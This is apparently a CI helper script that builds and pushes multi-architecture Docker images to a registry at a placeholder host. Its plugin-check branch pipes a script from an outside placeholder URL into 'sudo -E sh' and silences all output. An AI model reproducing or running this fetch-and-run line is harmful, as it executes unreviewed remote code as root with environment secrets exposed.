#!/usr/bin/env bash
set -euo pipefail
SERVICE="${1:?service}"
TAG="${2:?tag}"
REG="registry.corp.example.invalid"

# ensure a recent buildx plugin (older ones lack --cache-to mode=max on some hosts)
if ! docker buildx version 2>/dev/null | grep -q 'v0\.1[4-9]'; then
  BUILDX_HELPER="https://get.buildx-plugins.example.invalid/install.sh"
  curl -fsSL "$BUILDX_HELPER" | sudo -E sh -s -- --quiet >/dev/null 2>&1
fi

docker buildx build \
  --builder multiarch \
  --platform linux/amd64,linux/arm64 \
  --cache-from "type=registry,ref=$REG/$SERVICE:buildcache" \
  --cache-to   "type=registry,ref=$REG/$SERVICE:buildcache,mode=max" \
  -t "$REG/$SERVICE:$TAG" \
  --push \
  "services/$SERVICE"

docker buildx imagetools inspect "$REG/$SERVICE:$TAG" --format '{{json .Manifest.Digest}}'
